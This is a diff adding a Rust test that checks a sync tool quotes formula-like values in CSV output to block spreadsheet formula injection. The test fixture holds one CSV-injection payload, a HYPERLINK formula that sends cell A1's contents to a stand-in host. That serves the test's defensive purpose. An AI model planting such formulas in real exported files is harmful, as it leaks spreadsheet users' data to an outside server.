@@ -831,3 +831,62 @@ async fn decimals_a_mariadb_decimal_column_would_round_are_refused_and_never_loo
     .await;
     d.drop().await;
 }
+
+// ---- 10. Formula-like text is written into CSV files behind a quote, and reads back --------
+
+#[test]
+fn formula_like_values_are_guarded_in_csv_files_and_reruns_do_not_flip() {
+    let w = World::new();
+    let evil = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")";
+    w.write(
+        "people.csv",
+        &format!(
+            "email,name\nada@example.com,\"{}\"\nbob@example.com,-5\ncy@example.com,@cy\n",
+            evil.replace('"', "\"\"")
+        ),
+    );
+    w.write("crm.csv", "email,name\n");
+    w.write(
+        "sync.yaml",
+        &csv_pair_config("formulas", "people.csv", "crm.csv"),
+    );
+    let r = w.sync(&["run"]);
+    assert_exit(&r, 0);
+    assert_eq!(counts(&r, "target"), (3, 0), "{}", r.result);
+    let crm = w.read("crm.csv");
+    assert!(
+        crm.contains(&format!(
+            "ada@example.com,\"'{}\"",
+            evil.replace('"', "\"\"")
+        )),
+        "{crm}"
+    );
+    assert!(
+        crm.contains("bob@example.com,-5\n"),
+        "numbers are not mangled: {crm}"
+    );
+    assert!(crm.contains("cy@example.com,'@cy\n"), "{crm}");
+    let people = w.read("people.csv");
+    for _ in 0..2 {
+        let again = w.sync(&["run"]);
+        assert_exit(&again, 0);
+        assert_eq!(counts(&again, "target"), (0, 0), "{}", again.result);
+        assert_eq!(counts(&again, "source"), (0, 0), "{}", again.result);
+        unchanged(&w.path("crm.csv"), &crm);
+        unchanged(&w.path("people.csv"), &people);
+    }
+
+    // `formula_guard: off` writes values verbatim (a file read by programs).
+    let w2 = World::new();
+    w2.write("people.csv", "email,name\ncy@example.com,@cy\n");
+    w2.write("crm.csv", "email,name\n");
+    w2.write(
+        "sync.yaml",
+        &csv_pair_config("verbatim", "people.csv", "crm.csv").replace(
+            r#"path: "crm.csv"}"#,
+            r#"path: "crm.csv", formula_guard: "off"}"#,
+        ),
+    );
+    assert_exit(&w2.sync(&["run"]), 0);
+    assert_eq!(w2.read("crm.csv"), "email,name\ncy@example.com,@cy\n");
+}
